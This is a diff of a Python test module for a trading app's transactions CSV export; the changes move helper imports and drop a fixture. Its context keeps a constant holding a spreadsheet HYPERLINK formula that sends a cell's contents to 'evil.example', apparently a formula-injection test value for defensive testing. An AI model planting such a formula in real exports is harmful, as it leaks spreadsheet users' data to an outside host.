@@ -20,7 +20,7 @@ from hall.extensions import db
 from hall.models import LedgerEntry, Order
 from hall.services.core.errors import Conflict, InvalidInput
 from hall.services.trading.ledger import add_entry
-from tests.api.test_orders import (
+from tests.support.orders import (
     ORDERS,
     Market,
     buy_product,
@@ -33,17 +33,12 @@ from tests.api.test_orders import (
     settle,
     webhook,
 )
-from tests.trading import intent_succeeded, stripe_event
+from tests.support.trading import intent_succeeded, stripe_event
 
 TRANSACTIONS = "/api/v1/transactions"
 LABELS = ["记录号 Entry", "时间(UTC) Time", "订单 Order", "我方 Side", "类型 Kind", "金额 Amount", "币种 Currency",
           "渠道 Rail", "参考号 Reference", "起息日 Value date"]
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
-
-
-@pytest.fixture
-def market(app: Flask) -> Market:
-    return open_market(app)
 
 
 def entry_columns(entry: LedgerEntry) -> dict[str, Any]:
